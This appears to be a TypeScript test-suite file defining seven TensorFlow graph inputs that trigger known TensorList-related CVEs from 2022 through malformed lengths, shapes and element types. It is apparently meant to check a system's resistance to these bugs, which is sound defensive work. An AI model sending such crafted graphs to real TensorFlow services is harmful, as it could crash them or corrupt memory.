// Attacks on lists of tensors, whose shapes and lengths are tensors themselves.
import { attrShape, attrType, attrTypes, constInts, type NodeInput } from '../../support/graph-builder.ts';
import { type Attack, request, wired } from './attack.ts';
import { constF32, constI32, i32, i64, shaped, text } from './values.ts';

const float = attrType('DT_FLOAT');
const int32 = attrType('DT_INT32');
const int64 = attrType('DT_INT64');
const types = { element_dtype: float, shape_type: int32 };
/** No signature can give a list, but its length. */
const length: NodeInput = { name: 'length', op: 'TensorListLength', inputs: ['attack'] };
const lengthOutput: Attack['output'] = ['length:0', 'DT_INT32'];
/** An empty list of anything. */
const anyList: readonly NodeInput[] = [
  constInts('any', -1),
  { name: 'list', op: 'EmptyTensorList', inputs: ['any', 'any'], attrs: types },
];

export const listAttacks: readonly Attack[] = [
  {
    cve: 'CVE-2022-35960',
    op: 'TensorListReserve',
    trigger: 'a length that is a vector',
    inputs: [constI32([], -1), request(i32([2], 1), shaped())],
    attrs: types,
    nodes: [length],
    output: lengthOutput,
  },
  {
    cve: 'CVE-2022-35998',
    op: 'EmptyTensorList',
    trigger: 'a shape that is a matrix',
    inputs: [request(i64([2, 2], 1), shaped(1)), constI32([], 1)],
    attrs: { element_dtype: float, shape_type: int64 },
    nodes: [length],
    output: lengthOutput,
  },
  {
    cve: 'CVE-2022-41893',
    op: 'TensorListResize',
    trigger: 'a length that is a vector',
    inputs: [wired('list'), request(i32([2], 1), shaped())],
    nodes: [...anyList, length],
    output: lengthOutput,
  },
  {
    cve: 'CVE-2022-35991',
    op: 'TensorListScatterV2',
    trigger: 'a length that is a vector',
    inputs: [constF32([1, 1], 1), constI32([1], 0), constI32([], -1), request(i32([2], 1), shaped())],
    attrs: types,
    nodes: [length],
    output: lengthOutput,
  },
  {
    cve: 'CVE-2022-35992',
    op: 'TensorListFromTensor',
    trigger: 'a shape that is a matrix',
    inputs: [constF32([1, 1], 1), request(i32([2, 2], 1), shaped(1))],
    attrs: types,
    nodes: [length],
    output: lengthOutput,
  },
  {
    cve: 'CVE-2022-41891',
    op: 'TensorListConcat',
    trigger: 'elements without a dimension',
    inputs: [wired('list')],
    nodes: [...anyList],
    attrs: { element_dtype: float, element_shape: attrShape([]) },
  },
  {
    cve: 'CVE-2022-41909',
    op: 'CompositeTensorVariantToComponents',
    trigger: 'a composite that is a list',
    inputs: [wired('list')],
    nodes: [...anyList],
    attrs: { metadata: text(''), Tcomponents: attrTypes(['DT_INT64']) },
    output: ['attack:0', 'DT_INT64'],
  },
];
